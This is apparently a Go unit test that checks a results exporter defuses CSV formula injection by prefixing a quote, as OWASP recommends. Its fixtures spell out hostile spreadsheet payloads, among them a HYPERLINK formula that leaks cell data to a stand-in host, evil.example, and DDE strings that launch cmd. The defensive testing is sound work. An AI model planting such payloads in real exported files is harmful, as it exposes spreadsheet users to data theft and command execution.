package results_test

import (
	"math/big"
	"testing"

	duck "github.com/duckdb/duckdb-go/v2"

	"github.com/lyceum/lyceum/results"
	"github.com/lyceum/lyceum/warehouse"
)

// TestCSVNeutralisesFormulas: a text cell that a spreadsheet would read as
// a formula (= + - @, or a leading tab or CR) gets a ' in front, as OWASP
// recommends for CSV downloads; numbers in numeric columns stay numbers.
// Column names are text too.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := open(t, results.Options{})
	c := cols("title VARCHAR", "n INTEGER", "x DOUBLE", "price DECIMAL(8,2)", "doc JSON", "span INTERVAL")
	c = append(c, warehouse.Column{Name: `=HYPERLINK("http://evil.example/?"&A2,"click")`, Type: "VARCHAR", Kind: kindFor("VARCHAR")})
	src := rowsOf(c,
		[]any{`=HYPERLINK("http://evil.example/?"&A2,"click")`, int32(-3), -3.5, duck.Decimal{Width: 8, Scale: 2, Value: big.NewInt(-350)}, float64(-3), duck.Interval{Days: -1}, "+cmd|' /C calc'!A0"},
		[]any{"-2+3", int32(3), 1.0, nil, "@SUM(A1:A2)", nil, "@SUM(1+1)*cmd|' /C calc'!A0"},
		[]any{"\t=1+1", nil, nil, nil, nil, nil, "\r=1+1"},
		[]any{"plain", nil, nil, nil, nil, nil, "a=b"},
		[]any{"", nil, nil, nil, nil, nil, "'already"},
	)
	write(t, e.store, "r/formulas", src, results.Limits{})
	want := "title,n,x,price,doc,span,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\"\r\n" +
		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\",-3,-3.5,-3.50,'-3,'-1 day,'+cmd|' /C calc'!A0\r\n" +
		"'-2+3,3,1,,\"\"\"@SUM(A1:A2)\"\"\",,'@SUM(1+1)*cmd|' /C calc'!A0\r\n" +
		"'\t=1+1,,,,,,\"'\r=1+1\"\r\n" +
		"plain,,,,,,a=b\r\n" +
		"\"\",,,,,,'already\r\n"
	if got := csvOf(t, e.store, "r/formulas"); got != want {
		t.Errorf("csv =\n%q\nwant\n%q", got, want)
	}
}
